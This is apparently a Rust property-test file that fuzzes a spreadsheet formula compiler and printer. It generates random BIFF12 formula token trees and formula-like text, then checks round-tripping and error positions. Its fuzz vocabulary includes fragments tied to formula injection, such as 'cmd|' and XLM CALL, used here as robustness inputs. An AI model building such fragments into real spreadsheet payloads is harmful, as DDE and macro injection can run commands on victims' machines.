const CALLED: &[&[u8]] = &[
    &[0x23, 1, 0, 0, 0],
    &[0x24, 4, 0, 0, 0, 7, 0],
    &[0x24, 4, 0, 0, 0, 7, 0xC0],
    &[0x3A, 1, 0, 4, 0, 0, 0, 7, 0],
];

/// Trees that Excel could have written.
fn tree() -> impl Strategy<Value = Tree> {
    let references = reference().prop_recursive(3, 8, 2, |inner| {
        (inner.clone(), inner, 0x0Fu8..0x12).prop_map(|(left, right, ptg)| joined(vec![left, right], &[ptg]))
    });
    let leaf = prop_oneof![constant(), references];
    leaf.prop_recursive(6, 48, 5, |inner| {
        let args = |most| prop::collection::vec(inner.clone(), 0..most);
        let missing = inner.clone().prop_map(|tree| joined(vec![tree, (vec![0x16], vec![])], &[]));
        prop_oneof![
            4 => (inner.clone(), inner.clone(), 0x03u8..0x0F)
                .prop_map(|(left, right, ptg)| joined(vec![left, right], &[ptg])),
            2 => (inner.clone(), 0x12u8..0x16).prop_map(|(operand, ptg)| joined(vec![operand], &[ptg])),
            // CHAR, MID, GET.WORKSPACE have a fixed count.
            1 => inner.clone().prop_map(|arg| joined(vec![arg], &[0x41, 0x6F, 0])),
            1 => (inner.clone(), inner.clone(), inner.clone())
                .prop_map(|(a, b, c)| joined(vec![a, b, c], &[0x41, 0x1F, 0])),
            // SUM, CALL, and FORMULA with and without its dialog
            2 => args(5).prop_map(|args| {
                let count = u8::try_from(args.len()).unwrap();
                joined(args, &[0x42, count, 0x96, 0])
            }),
            1 => (args(4), any::<bool>()).prop_map(|(args, prompt)| {
                let count = u8::try_from(args.len()).unwrap() | if prompt { 0x80 } else { 0 };
                joined(args, &[0x42, count, 0x60, 0x80])
            }),
            1 => missing.prop_map(|args| joined(vec![args], &[0x42, 2, 0x04, 0])),
            1 => (prop::sample::select(CALLED), args(4)).prop_map(|(called, args)| {
                let count = u8::try_from(args.len()).unwrap() + 1;
                let called = (called.to_vec(), Vec::new());
                joined([vec![called], args].concat(), &[0x42, count, 0xFF, 0])
            }),
        ]
    })
}

/// Text that is often a formula.
fn any_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(vec![
            "=", "(", ")", ",", ";", "+", "-", "%", "&", "<>", "=", ":", " ", "!", "'", "\"", "{", "}", "[",
            "]", "#REF!", "#N/A", "A1", "$B$2", "R1C1", "R[-1]C", "A:A", "1:2", "Sheet1!", "'It''s'!",
            "SUM(", "CALL(", "run_it", "TRUE", "1.5", "1E3", ".5", "x(", "cmd|", "[1]", "\"a\"", "@", "|",
            "?", "日", "$H$5(", "R5C8(",
        ])
        .prop_map(str::to_owned),
        "\\PC{0,3}",
    ];
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

fn any_options() -> impl Strategy<Value = Options> {
    let style = prop::sample::select(vec![Style::A1, Style::R1C1, Style::Both]);
    let signs = prop::sample::select(vec![Signs::ENGLISH, Signs::EUROPEAN, Signs::SEMICOLON]);
    (style, signs, 0u32..100, 0u32..100, any::<bool>(), any::<bool>()).prop_map(
        |(style, signs, row, column, distances, macro_sheet)| Options {
            style,
            signs,
            cell: (row, column),
            distances,
            macro_sheet,
            ..Options::default()
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, ..ProptestConfig::default() })]

    #[test]
    fn any_tree_printed_and_compiled_prints_the_same((rgce, rgcb) in tree()) {
        let mut workbook = workbook();
        let (text, printed) = printed_in(&Compiled { rgce, rgcb }, (0, 0), &workbook);
        prop_assert!(printed.complete, "{}", text);
        let compiled = compile_in(&text, &Options::default(), &mut workbook);
        let compiled = compiled.map_err(|error| TestCaseError::fail(format!("{text}: {error}")))?;
        prop_assert_eq!(printed_in(&compiled, (0, 0), &workbook).0, text);
    }

    #[test]
    fn any_text_is_a_whole_formula_or_an_error_inside_it(text in any_text(), options in any_options()) {
        let mut workbook = workbook();
        match compile_in(&text, &options, &mut workbook) {
            Ok(compiled) => {
                with_cx(|cx| {
                    let expression =
                        Expression::parse(&compiled.rgce, &compiled.rgcb, BiffVersion::Biff12, cx).unwrap();
                    assert!(expression.root().is_some() && expression.error().is_none(), "{text}");
                    assert!(expression.nodes().iter().all(|node| node.missing_operands() == 0), "{text}");
                });
                let (again, printed) = printed_in(&compiled, options.cell, &workbook);
                prop_assert!(printed.complete);
                if options.style == Style::A1 {
                    let plain = Options { macro_sheet: options.macro_sheet, ..Options::default() };
                    let twice = compile_in(&again, &plain, &mut workbook)
                        .map_err(|error| TestCaseError::fail(format!("{text} -> {again}: {error}")))?;
                    prop_assert_eq!(printed_in(&twice, options.cell, &workbook).0, again);
                }
            }
            Err(TextError::Limit(hit)) => prop_assert!(false, "{}", hit),
            Err(TextError::Ends { at } | TextError::Unexpected { at, .. } | TextError::Open { at, .. }
                | TextError::Array { at } | TextError::Arguments { at, .. } | TextError::Number { at }
                | TextError::Full { at }) => {
                prop_assert!(text.get(usize::try_from(at).unwrap()..).is_some());
            }
            Err(other) => prop_assert!(false, "{}", other),
        }
    }
}
